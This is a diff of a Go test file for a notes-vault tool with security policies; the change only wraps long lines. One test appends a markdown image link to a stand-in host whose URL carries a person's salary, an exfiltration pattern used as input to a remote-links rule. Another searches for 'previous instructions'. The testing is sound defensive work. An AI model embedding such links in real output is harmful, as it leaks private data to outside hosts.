@@ -108,7 +108,9 @@ func TestHiddenNotesCauseNoNotice(t *testing.T) {
 		require.NoError(t, os.Remove(filepath.Join(o.Vault, "Clip.md")))
 		o.Write("Secret/s.md", text)
 		for _, words := range [][]string{
-			{"read", "path=Secret/s.md"}, {"search", "query=instructions"}, {"search:context", "query=recipe"}, {"files"}, {"backlinks", "path=Inbox/a.md"}, {"find", "query=previous instructions"}, {"recent"}, {"tags"},
+			{"read", "path=Secret/s.md"}, {"search", "query=instructions"}, {"search:context", "query=recipe"},
+			{"files"}, {"backlinks", "path=Inbox/a.md"}, {"find", "query=previous instructions"}, {"recent"},
+			{"tags"},
 			{"append", "path=Inbox/b.md", "content=more"}, {"read", "path=Inbox/b.md"},
 		} {
 			got, asked := o.Do(words)
@@ -211,7 +213,10 @@ func TestExceptionsAreForTheirRuleAndPath(t *testing.T) {
 			if excepted(policy.RuleRemoteLinks) {
 				answers = nil
 			}
-			if got, asked := o.As(folder, []string{"append", "path=" + folder + "Out.md", "content=![](https://e.example/?q=anna+earns+ninety+thousand&i=" + folder + ")"}, answers...); len(asked) != len(answers) || !got.OK {
+			if got, asked := o.As(folder,
+				[]string{"append", "path=" + folder + "Out.md",
+					"content=![](https://e.example/?q=anna+earns+ninety+thousand&i=" + folder + ")"},
+				answers...); len(asked) != len(answers) || !got.OK {
 				t.Errorf("%s, %s: %d questions, %+v", rule, folder, len(asked), got.Error)
 			}
 			o.Write(folder+"Clip.md", clip)
